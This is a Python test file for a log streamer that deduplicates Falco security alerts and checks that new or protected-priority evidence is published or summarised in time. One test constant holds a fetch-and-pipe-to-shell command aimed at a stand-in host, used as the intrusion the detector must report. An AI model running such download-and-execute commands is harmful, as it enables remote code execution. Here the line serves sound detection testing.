"""Evidence is shown in time: every variant of a protected priority at once, any other within the first window length.

Evidence is a variant that was not shown in its group's window: neither published nor reported in a summary.
"""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from streamer.model import Priority
from streamer.transform.process import Processor
from streamer.transform.state import ShardState
from streamer.transform.treatment import LimitPlan
from tests.unit.transform.judged import MINUTE_NS, PROTECTED, TREATED, WITHIN_NS, Course, Shown, body
from tests.unit.transform.samples import FALCO, NOW_NS, OTHER, SECOND_NS, START_NS, Feed


def live(bodies: list[tuple[int, bytes]], plan: Any = TREATED, *, until_ns: int = 0) -> Shown:
    """A pod's log, read as it is written: our clock is the lines', and is asked each second."""
    processor, feed, shown = Processor(plan, ShardState("prod-eu-1"), b"k" * 16), Feed(), Shown()
    now_ns = bodies[0][0]
    for time_ns, line in bodies:
        while now_ns + SECOND_NS <= time_ns:
            now_ns += SECOND_NS
            shown.take(processor.publish_due(now_ns), now_ns)
        shown.take(processor.process([feed.batch((time_ns, line))], time_ns), time_ns)
    while now_ns < until_ns:
        now_ns += SECOND_NS
        shown.take(processor.publish_due(now_ns), now_ns)
    return shown


def busy(minutes: int, commands: int = 11) -> list[tuple[int, bytes]]:
    """A group that says the same few things every two seconds."""
    at_ns = range(START_NS, START_NS + minutes * MINUTE_NS, 2 * SECOND_NS)
    return [(time_ns, body(time_ns, f"healthcheck {n % commands}")) for n, time_ns in enumerate(at_ns)]


class TestASlowIntrusion:
    """One distinct command line every 5 s for 40 min, in one busy group."""

    TIMES: Final = [START_NS + n * 5 * SECOND_NS for n in range(480)]

    @pytest.mark.parametrize("priority", sorted(PROTECTED))
    def test_is_published_at_once_where_its_priority_is_protected(self, priority: str) -> None:
        shown = live([(time_ns, body(time_ns, f"{time_ns}", priority)) for time_ns in self.TIMES])
        assert shown.published == {f"{time_ns}": time_ns for time_ns in self.TIMES}
        assert not shown.summaries

    def test_is_reported_within_70_s_otherwise(self) -> None:
        lines = [(time_ns, body(time_ns, f"{time_ns}")) for time_ns in self.TIMES]
        shown = live(lines, until_ns=self.TIMES[-1] + WITHIN_NS)
        first = shown.reported | shown.published
        assert max(first[f"{time_ns}"] - time_ns for time_ns in self.TIMES) <= WITHIN_NS
        assert len(shown.summaries) <= 41  # one a minute

    def test_leaves_exact_repeats_to_the_summary(self) -> None:
        twice = [time_ns + n for time_ns in self.TIMES for n in (0, 1)]
        shown = live([(time_ns, body(time_ns, f"{time_ns // SECOND_NS}", "Critical")) for time_ns in twice])
        assert len(shown.published) == 480
        assert not any(
            variant["new"] for value in shown.summaries for variant in value["summary"]["variants"]
        )

    def test_settings_can_protect_more_priorities(self) -> None:
        plan = replace(TREATED, limits=LimitPlan(protected=LimitPlan().protected | {Priority.NOTICE}))
        shown = live([(time_ns, body(time_ns, f"{time_ns}")) for time_ns in self.TIMES], plan)
        assert len(shown.published) == 480


class TestABusyGroup:
    """Ten harmless variants, then the one that matters, in a group that has been busy for half an hour."""

    EVIL: Final = "sh -c curf https://example.com/x | sh"

    def shown(self, **fields: Any) -> tuple[Shown, int]:
        plan = replace(TREATED, dedupe=replace(TREATED.dedupe, max_variants=10))
        before = busy(31)
        at_ns = before[-1][0] + SECOND_NS
        lines = [*before, (at_ns, body(at_ns, self.EVIL, **fields))]
        lines += [(at_ns + n * SECOND_NS, body(at_ns, "healthcheck 1")) for n in range(1, 90)]
        return live(lines, plan), at_ns

    def test_reports_it_within_70_s_in_a_queryable_field(self) -> None:
        shown, at_ns = self.shown()
        assert self.EVIL not in shown.published
        assert shown.reported[self.EVIL] - at_ns <= WITHIN_NS

    def test_names_it_in_the_text_and_says_that_it_is_new(self) -> None:
        shown, _ = self.shown()
        (value,) = [value for value in shown.summaries if value["summary"]["reason"] == "evidence"]
        assert f'1 new: proc.cmdline="{self.EVIL}"' in value["output"]
        assert [v["new"] for v in value["summary"]["variants"]] == [True] + [False] * 11
        assert value["summary"]["final"] is False

    def test_holds_back_only_exact_repeats_after_that(self) -> None:
        plan = replace(TREATED, dedupe=replace(TREATED.dedupe, max_variants=0))
        shown = live(busy(70), plan)
        reasons = [value["summary"]["reason"] for value in shown.summaries]
        assert reasons.count("evidence") == 4, "one for each window that is longer than a minute"


class TestMemoryBounds:
    def test_hold_for_the_deadlines_of_what_was_evicted_where_the_clock_stands_still(self) -> None:
        plan = replace(TREATED, dedupe=replace(TREATED.dedupe, max_windows=50, max_variants=0))
        processor, feed = Processor(plan, ShardState("prod-eu-1"), b"k" * 16), Feed()
        for group in range(3000):
            lines = [body(START_NS, f"{n}", **{"proc.name": f"{group}"}) for n in range(2)]
            processor.process([feed.batch(*[(START_NS, line) for line in lines])], NOW_NS)
        windows = processor.state.tracked[FALCO.id].windows
        assert len(windows._evidence) < 200
        assert processor.state.ledger.deduplicated == 3000

    def test_never_hold_back_evidence_of_a_protected_priority(self) -> None:
        """A window forgets the oldest of the variants that it has shown: these are published again."""
        bodies = [body(START_NS, f"{n}", "Critical") for n in [*range(1500), *range(1500)]]
        processor, feed, shown = Processor(TREATED, ShardState("prod-eu-1"), b"k" * 16), Feed(), Shown()
        for line in bodies:
            shown.take(processor.process([feed.batch((START_NS, line))], NOW_NS), NOW_NS)
        assert len(shown.published) == 1500
        assert processor.state.ledger.published == 3000
        (window,) = processor.state.tracked[FALCO.id].windows.packed.values()
        assert len(window) < 17_000

    def test_hold_for_what_all_windows_have_shown(self) -> None:
        """Many groups of many variants each: windows take half a kilobyte on average at most."""
        plan = replace(TREATED, dedupe=replace(TREATED.dedupe, max_windows=1000))
        processor, feed = Processor(plan, ShardState("prod-eu-1"), b"k" * 16), Feed()
        for group in range(100):
            lines = [body(START_NS, f"{n}", "Critical", **{"proc.name": f"{group}"}) for n in range(900)]
            made = processor.process([feed.batch(*[(START_NS, line) for line in lines])], NOW_NS)
            windows = processor.state.tracked[FALCO.id].windows
            assert windows.packed_bytes == sum(map(len, windows.packed.values())) <= 1024 * 1024
            assert len(made.records) == 900
        assert processor._context.deduplicator.window_bytes == windows.packed_bytes


STEPS: Final = st.sampled_from([0, 1, 5, 20, 59, 61, 290, 1799, 3600, -1, -11, -3600])
EVENTS: Final = st.tuples(
    st.sampled_from([FALCO, OTHER]),
    STEPS,
    st.sampled_from("ab"),
    st.sampled_from("tuvwxyz"),
    st.sampled_from(["Notice", "Notice", "Warning", "Critical"]),
)


@settings(max_examples=80, deadline=None)
@given(st.data())
def test_holds_for_any_interleaving_crash_and_reload(data: st.DataObject) -> None:
    course = Course()
    for event in data.draw(st.lists(EVENTS, max_size=50)):
        course.write(*event)
        match data.draw(st.sampled_from(["go on"] * 6 + ["wait", "crash", "reload"])):
            case "wait":
                course.tick(data.draw(st.sampled_from([1, 10, 61, 75])))
            case "crash" if course.stored.stored:
                course.crash()
            case "reload":
                course.reload(data.draw(st.sampled_from([0, 1, 10])))
    course.end()


def test_is_in_time_though_our_clock_is_set_back() -> None:
    for crash in (False, True):
        course = Course()
        for n in range(9):
            course.write(FALCO, 1, "a", f"{n}", "Notice")
        course.tick(5)
        course.judge.waiting = {
            key: (at, now - 3600 * SECOND_NS) for key, (at, now) in course.judge.waiting.items()
        }
        course.now_ns -= 3600 * SECOND_NS
        if crash:
            course.crash()
            course.judge.waiting = {
                key: (at, now + 5 * SECOND_NS) for key, (at, now) in course.judge.waiting.items()
            }
        course.end()


def test_does_not_depend_on_when_it_was_reported() -> None:
    """A long alert is counted only where its like was seen in the window: whether that was reported, or not yet."""
    for tick in (0, 75):
        course = Course()
        for n in range(9):
            course.write(FALCO, 1, "a", f"{n}", "Notice")
        course.tick(tick)
        long = body(START_NS + 10 * SECOND_NS, "8", **{"proc.name": "a", "evt.args": "x" * 9000})
        feed = course.feeds[FALCO]
        made = course.processor.process([feed.batch((START_NS + 10 * SECOND_NS, long))], course.now_ns)
        assert not made.records


def test_ids_are_the_same_under_any_key_and_for_any_pod_of_falco() -> None:
    found = set[str]()
    for key, target in ((b"k" * 16, FALCO), (b"l" * 16, OTHER)):
        processor, feed = Processor(TREATED, ShardState("prod-eu-1"), key), Feed(target)
        lines = [(START_NS + n, body(START_NS, f"{n % 9}", **{"evt.num": f"{n}"})) for n in range(30)]
        shown = Shown()
        shown.take(processor.process([feed.batch(*lines)], NOW_NS), NOW_NS)
        shown.take(processor.publish_due(NOW_NS, everything=True), NOW_NS)
        (value,) = shown.summaries
        ids = [value["summary"]["group"], *[variant["id"] for variant in value["summary"]["variants"]]]
        assert all(re.fullmatch("[0-9a-f]{32}", one) for one in ids)
        assert len(set(ids)) == 10
        found.add(" ".join(ids))
    assert len(found) == 1
